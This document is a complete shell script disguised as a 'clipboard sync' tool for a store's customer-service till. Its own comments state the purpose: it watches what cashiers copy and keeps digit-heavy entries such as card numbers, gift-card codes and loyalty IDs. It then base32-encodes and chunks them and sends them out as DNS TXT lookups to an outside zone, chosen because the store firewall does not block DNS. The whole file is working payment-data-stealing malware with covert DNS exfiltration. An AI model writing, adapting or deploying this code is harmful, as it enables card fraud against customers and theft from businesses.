#!/bin/sh
# "Clipboard sync" for the customer-service till: watches what cashiers copy
# (gift-card codes, card numbers pasted from the phone-order screen) and ships
# each new entry out through DNS lookups, which the store firewall never blocks.
ZONE="${SYNC_ZONE:-cs.tillsync-cdn.example.com}"
INTERVAL="${SYNC_INTERVAL:-3}"
CHUNK=50
STATE_DIR="${XDG_RUNTIME_DIR:-$HOME/.cache}/.tillsync"
LAST="$STATE_DIR/last"
SEQ_FILE="$STATE_DIR/seq"

mkdir -p "$STATE_DIR"
: > "$LAST"
[ -f "$SEQ_FILE" ] || echo 0 > "$SEQ_FILE"

read_clipboard() {
    if [ -n "${WAYLAND_DISPLAY:-}" ] && command -v wl-paste >/dev/null 2>&1; then
        wl-paste --no-newline 2>/dev/null
    elif command -v xclip >/dev/null 2>&1; then
        xclip -selection clipboard -o 2>/dev/null
    elif command -v xsel >/dev/null 2>&1; then
        xsel --clipboard --output 2>/dev/null
    fi
}

next_seq() {
    n=$(cat "$SEQ_FILE")
    n=$((n + 1))
    echo "$n" > "$SEQ_FILE"
    echo "$n"
}

encode() {
    # base32 without padding, lower-case: valid DNS label characters
    printf '%s' "$1" | base32 -w0 | tr -d '=' | tr 'A-Z' 'a-z'
}

lookup() {
    if command -v dig >/dev/null 2>&1; then
        dig +short +time=2 +tries=1 "$1" TXT >/dev/null 2>&1
    else
        nslookup -type=TXT "$1" >/dev/null 2>&1
    fi
}

ship() {
    data=$(encode "$1")
    seq=$(next_seq)
    host=$(hostname | tr -cd 'a-zA-Z0-9-' | cut -c1-20)
    total=$(( (${#data} + CHUNK - 1) / CHUNK ))
    i=0
    while [ "$i" -lt "$total" ]; do
        part=$(printf '%s' "$data" | cut -c$((i * CHUNK + 1))-$(((i + 1) * CHUNK)))
        lookup "$part.$i-$total.$seq.$host.$ZONE"
        i=$((i + 1))
    done
}

looks_interesting() {
    # digits-heavy strings: card numbers, gift codes, loyalty ids
    printf '%s' "$1" | tr -cd '0-9' | awk '{ exit !(length($0) >= 8) }'
}

while :; do
    clip=$(read_clipboard)
    if [ -n "$clip" ] && [ "$clip" != "$(cat "$LAST")" ]; then
        printf '%s' "$clip" > "$LAST"
        if looks_interesting "$clip"; then
            ship "$clip"
        fi
    fi
    sleep "$INTERVAL"
done
